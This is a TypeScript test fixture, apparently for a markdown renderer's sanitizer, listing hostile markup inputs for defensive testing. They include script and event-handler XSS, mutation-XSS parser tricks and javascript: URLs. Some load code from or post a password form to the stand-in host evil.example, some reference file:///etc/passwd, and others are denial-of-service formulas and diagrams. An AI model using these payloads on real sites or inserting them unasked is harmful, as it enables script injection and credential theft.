// Notes written by an attacker: the rows of the table of hostile inputs that only a page can suffer from.
// What would run sets `hacked`; what would be asked for lies on `evil.example`.
import type { Input } from './inputs.ts';

export const markup: readonly Pick<Input, 'row' | 'name' | 'text'>[] = [
  {
    row: 1,
    name: 'scripts',
    text: '<script>hacked=1</script><script nonce="x">hacked=1</script>\n\n<script type=importmap>{"imports":{}}</script>\n\nWords <script src=https://evil.example/x.js></script> after.\n',
  },
  {
    row: 2,
    name: 'an image with a handler',
    text: '<img src=x onerror="hacked=1">\n\n<img src=x onerror=hacked=1 />\n',
  },
  {
    row: 3,
    name: 'drawings that run',
    text: '<svg onload="hacked=1"><script>hacked=1</script></svg>\n\n<svg><a><animate href=#x attributeName=href values=javascript:hacked=1 /><text y=20>x</text></a></svg>\n\n<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>hacked=1</script></svg>#x" /></svg>\n',
  },
  {
    row: 4,
    name: 'styles',
    text: '<style onload="hacked=1">body{display:none}</style>\n\n<style>@import url(https://evil.example/x.css);</style>\n\nWords.\n',
  },
  {
    row: 5,
    name: 'frames',
    text: '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>\n\n<iframe src="javascript:parent.hacked=1"></iframe>\n\n<frameset onload=hacked=1>\n',
  },
  {
    row: 6,
    name: 'objects',
    text: '<object data="data:text/html,<script>hacked=1</script>"></object>\n\n<embed src=https://evil.example/x>\n',
  },
  {
    row: 7,
    name: 'documents that lead away',
    text: '<meta http-equiv=refresh content="0;url=https://evil.example/">\n\n<base href=https://evil.example/>\n\n[x](#y)\n',
  },
  {
    row: 8,
    name: 'links of the head',
    text: '<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/y><link rel=dns-prefetch href=//evil.example>\n',
  },
  {
    row: 9,
    name: 'forms',
    text: '<form action=https://evil.example/><input type=password name=p><button formaction="javascript:hacked=1">Go</button><textarea>t</textarea></form>\n',
  },
  {
    row: 10,
    name: 'details with a handler',
    text: '<details open ontoggle="hacked=1"><summary>S</summary>Kept.</details>\n',
  },
  {
    row: 11,
    name: 'films and sound',
    text: '<video poster=https://evil.example/p.png src=https://evil.example/v onmouseover="hacked=1"></video><audio src=https://evil.example/a></audio>\n',
  },
  {
    row: 11,
    name: 'films of the vault with more than a name',
    text: '![[film.mp4#t=1" onerror="hacked=1]] ![" onplay="hacked=1](film.mp4 "x\\" autoplay") ![[film.mp4|<script>hacked=1</script>]] ![](https://evil.example/film.mp4) ![[../../etc/film.mp4]] ![](//evil.example/film.mp4)\n\n<video src=film.mp4 controls autoplay></video> <span data-tag=video data-media="file:///v/film.mp4" data-mstage=1>s</span>\n',
  },
  {
    row: 12,
    name: 'markup that changes when it is read again',
    text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked=1&gt;">\n\n<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked=1>\n',
  },
  {
    row: 13,
    name: 'templates and noscript',
    text: '<noscript><p title="</noscript><img src=x onerror=hacked=1>"></noscript>\n\n<template><script>hacked=1</script></template>\n',
  },
  {
    row: 14,
    name: 'inputs',
    text: '<input type=checkbox onclick="hacked=1" checked> <input type=text autofocus onfocus="hacked=1"> <input type=image src=https://evil.example/i onerror="hacked=1">\n',
  },
  {
    row: 15,
    name: 'popovers and dialogs',
    text: '<div popover onbeforetoggle="hacked=1">P</div>\n\n<dialog open oncancel="hacked=1" onclose=hacked=1>D</dialog>\n\n<button popovertarget=p>B</button>\n',
  },
  {
    row: 16,
    name: 'names of the document',
    text: '<a id=body name=cookie>x</a> <img name=getElementById> <p id=research-notes-data>y</p>\n',
  },
  { row: 17, name: 'what is left open', text: '<div><b><!--\n\nAfter.\n\n</div></div></body></html>\n\nLast.\n' },
  {
    row: 18,
    name: 'lines and actions that are not ours',
    text: '<p class="code-line block" data-line=999999 data-href="command:x" data-act=fix data-fix="0:0" data-note="file:///etc/passwd" data-mstage-x=1>P</p>\n\n<a data-note="file:///etc/passwd" href="#">a</a> <a data-url="command:x" href="#">b</a>\n',
  },
  {
    row: 19,
    name: 'what covers the page',
    text: '<p style="position:fixed;inset:0;background:red;z-index:99">C</p>\n',
  },
  {
    row: 20,
    name: 'buttons like ours',
    text: '<label for=x>L</label> <button class="icon icon-export" data-act=remote>Load</button>\n',
  },
  {
    row: 28,
    name: 'addresses in attributes',
    text: '<img srcset="https://evil.example/a.png 1x" src="x"> <p style="background:url(https://evil.example/b.png)">x</p> <table background=https://evil.example/c><tr><td>x</td></tr></table>\n',
  },
  {
    row: 49,
    name: 'formulas that reach out',
    text: '$\\href{javascript:hacked=1}{x}$ $\\includegraphics{https://evil.example/x.png}$ $\\htmlStyle{position:fixed}{x}$ $\\htmlData{note=x}{y}$ $\\url{javascript:hacked=1}$\n',
  },
  {
    row: 50,
    name: 'formulas without end',
    text: `$\\def\\a{\\a\\a}\\a$\n\n$$${'{'.repeat(20_000)}x${'}'.repeat(20_000)}$$\n\n$\\rule{1e9em}{1e9em}$\n`,
  },
  {
    row: 51,
    name: 'diagrams that run',
    text: '```mermaid\n%%{init: {"securityLevel":"loose"}}%%\ngraph TD\n  A["<img src=x onerror=hacked=1>"] --> B\n  click A "javascript:hacked=1"\n```\n\n```mermaid\nsequenceDiagram\n  A->>B: $$\\href{javascript:hacked=1}{x}$$\n```\n',
  },
  {
    row: 52,
    name: 'a diagram of a megabyte',
    text: `\`\`\`mermaid\ngraph TD\n${'  A-->B\n'.repeat(20_000)}\`\`\`\n\nAfter.\n`,
  },
  {
    row: 53,
    name: 'languages that are markup',
    text: `\`\`\`js" onload="hacked=1\ncode\n\`\`\`\n\n\`\`\`__proto__\ncode\n\`\`\`\n\n\`\`\`${'x'.repeat(10_000)}\ncode\n\`\`\`\n`,
  },
];
